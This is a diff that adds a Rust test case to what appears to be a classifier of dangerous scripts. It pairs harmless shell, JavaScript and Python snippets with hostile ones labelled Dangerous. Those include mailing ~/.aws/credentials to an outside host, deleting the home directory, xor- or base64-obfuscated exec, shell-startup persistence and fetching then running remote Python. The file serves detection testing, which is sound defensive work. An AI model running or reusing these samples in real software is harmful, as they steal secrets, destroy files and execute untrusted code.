@@ -5580,3 +5580,154 @@ fn fp24_clean_tool_scripts() {
     ];
     check_all(rows);
 }
+
+/// Shapes of round 24b: shell name references (`local -n out=$1`), function constructors
+/// reached through `.constructor`, values a JS generator yields, mail transports, bytes built
+/// by xor, and modules loaded from a file through `importlib`.
+#[test]
+fn red24b_shapes() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Sh,
+            "#!/bin/bash\npick_rc() {\n  local -n out=$1\n  out=~/.bashrc\n}\n\
+             pick_rc rc\nprintf 'export PATH=%s/bin:$PATH\\n' \"$PWD\" >> \"$rc\"\n",
+            Dangerous,
+            "persistence",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\npick_out() {\n  local -n out=$1\n  out=target/release\n}\n\
+             pick_out dir\nrm -rf \"$dir\"\nmkdir -p \"$dir\"\n",
+            Clean,
+            "",
+        ),
+        (
+            Sh,
+            "#!/bin/bash\ntotal() {\n  local -n arr=$1\n  local t=0 x\n\
+             for x in \"${arr[@]}\"; do t=$((t + x)); done\n  echo \"$t\"\n}\n\
+             nums=(1 2 3)\ntotal nums\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const AsyncFunction = (async () => {}).constructor;\n\
+             const code = Buffer.from(process.env.PAYLOAD || 'Y29uc29sZS5sb2coMSk=', 'base64').toString();\n\
+             new AsyncFunction(code)();\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "const make = Object.getPrototypeOf(function* () {}).constructor;\n\
+             const body = String.fromCharCode(...[114, 101, 116, 117, 114, 110]);\n\
+             for (const x of make(body)()) console.log(x);\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Js,
+            "class Job {}\nconst j = new Job();\n\
+             const isAsync = (fn) => fn.constructor.name === 'AsyncFunction';\n\
+             console.log(j.constructor.name, isAsync(async () => {}));\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "const AsyncFn = Object.getPrototypeOf(async function () {}).constructor;\n\
+             export function isAsync(f: unknown): boolean {\n  return f instanceof AsyncFn;\n}\n\
+             console.log(isAsync(async () => 1));\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nconst os = require('os');\n\
+             function* stale() {\n  yield 'dist';\n  yield os.homedir();\n}\n\
+             for (const d of stale()) fs.rmSync(d, { recursive: true, force: true });\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fs = require('fs');\nfunction* outputs() {\n  yield 'dist';\n  yield 'coverage';\n}\n\
+             for (const d of outputs()) fs.rmSync(d, { recursive: true, force: true });\n",
+            Clean,
+            "",
+        ),
+        (
+            Ts,
+            "import { promises as fs } from 'fs';\n\
+             async function* lines(file: string): AsyncGenerator<string> {\n\
+               for (const l of (await fs.readFile(file, 'utf8')).split('\\n')) yield l.trim();\n}\n\
+             (async () => { for await (const l of lines('README.md')) if (l) console.log(l); })();\n",
+            Clean,
+            "",
+        ),
+        (
+            Js,
+            "const nodemailer = require('nodemailer');\nconst fs = require('fs');\nconst os = require('os');\n\
+             const t = nodemailer.createTransport({ host: 'smtp.mailer.example.com', port: 587 });\n\
+             t.sendMail({ to: 'ops@example.org', text: fs.readFileSync(os.homedir() + '/.aws/credentials', 'utf8') });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "SEED = [54, 58, 41, 48, 62, 32]\nKEY = 0x5A\n\
+             code = bytes(b ^ KEY for b in SEED).decode()\nexec(code)\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "import subprocess\nDATA = [99, 104, 105, 120]\n\
+             cmd = bytearray([c ^ 0x21 for c in DATA]).decode()\nsubprocess.run(cmd, shell=True)\n",
+            Dangerous,
+            "obfuscated-execution",
+        ),
+        (
+            Py,
+            "from pathlib import Path\na = Path('a.bin').read_bytes()\nb = Path('b.bin').read_bytes()\n\
+             diff = bytes(x ^ y for x, y in zip(a, b))\nPath('build/diff.bin').write_bytes(diff)\n\
+             print(sum(1 for d in diff if d))\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "data = open('frame.raw', 'rb').read()\ninverted = bytes(b ^ 0xFF for b in data)\n\
+             print(inverted[:16].hex())\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "import importlib.util, tempfile, urllib.request\nfrom pathlib import Path\n\
+             dest = Path(tempfile.mkdtemp()) / 'plugin.py'\n\
+             dest.write_bytes(urllib.request.urlopen('https://plugins.example-host.net/p.py').read())\n\
+             spec = importlib.util.spec_from_file_location('plugin', dest)\n\
+             mod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\n",
+            Dangerous,
+            "remote-code",
+        ),
+        (
+            Py,
+            "import importlib.util\nfrom pathlib import Path\n\
+             path = Path(__file__).parent / 'plugins' / 'fmt.py'\n\
+             spec = importlib.util.spec_from_file_location('fmt', path)\n\
+             mod = importlib.util.module_from_spec(spec)\nspec.loader.exec_module(mod)\nprint(mod.__name__)\n",
+            Clean,
+            "",
+        ),
+        (
+            Py,
+            "from importlib.machinery import SourceFileLoader\n\
+             conf = SourceFileLoader('conf', 'docs/conf.py').load_module()\nprint(conf.project)\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
